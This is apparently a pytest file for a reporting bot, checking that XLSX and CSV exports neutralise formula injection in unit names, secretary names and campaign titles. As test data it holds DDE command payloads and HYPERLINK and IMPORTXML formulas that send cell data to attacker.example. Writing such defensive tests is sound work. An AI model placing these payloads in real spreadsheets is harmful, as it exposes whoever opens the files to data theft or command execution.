"""Spreadsheets are untrusted output (issue 12, item 5): a secretary's display name, a unit name
from the org CSV or a campaign title that looks like a formula reaches the XLSX as text and the
CSV neutralised, never as something Excel or LibreOffice would run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook

from bot.db.models import Campaign
from bot.reports import gather
from bot.reports.export import build_csv, build_xlsx
from bot.services import campaigns, orgs, roles
from bot.services.people import upsert_user
from bot.services.roles import Role
from tests.broadcast_world import build_world

NOW = datetime(2026, 12, 5, 3, 0, tzinfo=UTC)
LINK = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem chi tiết")'
DDE = '+cmd|" /C calc"!A0'
NAMES = {"X01": LINK, "X01-CB01": DDE, "X01-CB02": "@SUM(1+1)*cmd|' /C calc'!A0",
         "X01-CB03": "-2+3+cmd|' /C calc'!A0", "X01-CB04": "\t=1+1"}
SECRETARY = '=IMPORTXML(CONCAT("http://attacker.example/?", A2), "//a")'
TITLE = "=2*3 Quán triệt"


async def _poisoned(app) -> int:
    await build_world(app, [])
    async with app.sessions() as s, s.begin():
        for code, name in NAMES.items():
            (await orgs.get_unit(s, code)).name = name
        secretary = await upsert_user(s, "telegram", "777", SECRETARY)
        await roles.grant(s, secretary, Role.SECRETARY, await orgs.get_unit(s, "X01-CB03"),
                          source="cli")
        campaign = await campaigns.create(
            s, actor=None, document="NQ57", title=TITLE, scope_code="T01",
            deadline="10/12/2026", opens=None, now=NOW, tz=app.settings.tz,
            documents={"NQ57", "KL69", "NQ20"})
        return campaign.id


async def _data(app, campaign_id: int):
    async with app.sessions() as s:
        campaign = await s.get(Campaign, campaign_id)
        return await gather(s, campaign, await orgs.get_unit(s, "X01"), now=NOW, exports=True)


async def test_xlsx_has_no_formula_and_keeps_the_text(app):
    data = await _data(app, await _poisoned(app))
    raw = build_xlsx(data.campaign, data.root, scope=data.scope, total=data.total,
                     units=data.units, cells=data.cells, laggards=data.laggards,
                     generated_at=NOW, tz=app.settings.tz, parent_names=data.parent_names)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(raw))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    # the names are there, as the people typed them (the four sheets use them all)
    assert LINK in texts and DDE in texts and "\t=1+1" in texts
    assert SECRETARY in texts  # "Chưa xác nhận": the secretaries of the cells still to confirm
    assert any(TITLE in t for t in texts)
    missing = book["Chưa xác nhận"]
    row = next(r for r in missing.iter_rows(min_row=2) if r[0].value == "X01-CB03")
    assert row[3].value == SECRETARY and row[3].data_type == "s"
    assert row[2].value == LINK and row[2].data_type == "s"  # the parent unit's name


async def test_csv_cells_that_start_a_formula_are_neutralised(app):
    data = await _data(app, await _poisoned(app))
    rows = list(csv.reader(io.StringIO(build_csv(data.cells, data.parent_names).lstrip("\ufeff"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["X01-CB01"][1] == "'" + DDE
    assert by_code["X01-CB01"][2] == "'" + LINK  # the parent's name
    assert by_code["X01-CB02"][1].startswith("'@")
    assert by_code["X01-CB03"][1].startswith("'-")
    assert by_code["X01-CB04"][1] == "'\t=1+1"
    assert by_code["X01-CB05"][1] == "Chi bộ khu phố 5"  # ordinary names untouched
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_org_export_is_neutralised_and_imports_back_unchanged(app):
    await build_world(app, [])
    async with app.sessions() as s, s.begin():
        for code, name in NAMES.items():
            (await orgs.get_unit(s, code)).name = name
    async with app.sessions() as s:
        exported = await orgs.export_csv(s)
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported))}
    assert rows["X01"][1] == "'" + LINK and rows["X01-CB01"][1] == "'" + DDE
    parsed = {row.code: row.name for row in orgs.parse_csv(exported)}
    assert parsed["X01"] == LINK and parsed["X01-CB01"] == DDE
    assert parsed["X01-CB02"] == NAMES["X01-CB02"]
